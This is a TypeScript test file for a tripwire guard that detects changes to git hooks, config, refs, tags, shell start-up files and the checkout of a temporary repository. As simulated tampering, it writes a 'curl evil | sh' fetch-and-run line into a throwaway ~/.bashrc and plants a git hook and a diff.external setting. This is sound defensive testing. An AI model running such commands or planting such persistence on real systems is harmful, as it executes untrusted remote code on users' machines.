import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { changedOutside, fingerprintOutside, trippedBy, type Watched } from "../../src/guards/tripwire.js";

describe("trippedBy", () => {
  const before = new Map([
    [".git/config", "100644 a"],
    [".git/hooks/pre-commit.sample", "100755 b"],
    ["ref refs/tags/v1", "abc"],
  ]);

  it("stays quiet when nothing changed", () => {
    expect(trippedBy(before, new Map(before))).toEqual([]);
  });

  it("names what changed, appeared and disappeared", () => {
    const after = new Map([
      [".git/config", "100644 z"],
      [".git/hooks/post-merge", "100755 c"],
      ["ref refs/tags/v1", "abc"],
      ["~/.local/bin/python3", "100755 10 1"],
    ]);
    expect(trippedBy(before, after)).toEqual([".git/config changed", ".git/hooks/post-merge appeared", ".git/hooks/pre-commit.sample disappeared", "~/.local/bin/python3 appeared"]);
  });
});

describe("the tripwire on a real repository", () => {
  const made: string[] = [];
  afterEach(() => {
    for (const dir of made.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  /** A repository with one commit and a linked worktree, and a HOME of its own. */
  function repository(): Watched {
    const base = mkdtempSync(join(tmpdir(), "factory-tripwire-"));
    made.push(base);
    const root = join(base, "repo");
    execFileSync("git", ["init", "-q", "-b", "main", root]);
    execFileSync("git", ["-C", root, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "start"]);
    execFileSync("git", ["-C", root, "worktree", "add", "-q", "--detach", join(base, "wt")]);
    mkdirSync(join(base, "home"));
    return { root, worktree: join(base, "wt"), target: "main", home: join(base, "home") };
  }

  it("a remote's tracking ref moved by landings only (the fleet's, fetched) and the fleet's candidate refs are the factory's; a tracking ref moved to anything else is seen", async () => {
    const watched = repository();
    const git = (...args: string[]): string => execFileSync("git", ["-C", watched.root, "-c", "user.name=t", "-c", "user.email=t@t", ...args], { encoding: "utf8" }).trim();
    const start = git("rev-parse", "main");
    git("update-ref", "refs/remotes/origin/main", start);
    git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/main");
    const before = await fingerprintOutside(watched);
    const landing = git("commit-tree", `${start}^{tree}`, "-p", start, "-m", "P01: a landing\n\nFactory-Packet: P01");
    git("update-ref", "refs/remotes/origin/main", landing);
    git("update-ref", "refs/factory/landing/P02", landing);
    expect((await changedOutside(watched, before)).changes).toEqual([]);
    const other = git("commit-tree", `${start}^{tree}`, "-p", landing, "-m", "not a landing");
    git("update-ref", "refs/remotes/origin/main", other);
    expect((await changedOutside(watched, before)).changes).toEqual(["ref refs/remotes/origin/HEAD changed", "ref refs/remotes/origin/main changed"]);
  });

  it("sees a hook, a config line, a tag, a shell start-up file and an edit in the checkout; nothing when nothing changed", async () => {
    const watched = repository();
    const before = await fingerprintOutside(watched);
    expect((await changedOutside(watched, before)).changes).toEqual([]);
    writeFileSync(join(watched.root, ".git/hooks/post-merge"), "#!/bin/sh\n");
    execFileSync("git", ["-C", watched.root, "config", "diff.external", "true"]);
    execFileSync("git", ["-C", watched.root, "tag", "sneaky"]);
    writeFileSync(join(watched.home, ".bashrc"), "curl evil | sh\n");
    writeFileSync(join(watched.root, "notes.md"), "mine\n");
    expect((await changedOutside(watched, before)).changes).toEqual([
      ".git/config changed",
      ".git/hooks/post-merge appeared",
      "a change to notes.md in your checkout appeared",
      "ref refs/tags/sneaky appeared",
      "~/.bashrc appeared",
    ]);
  });
});
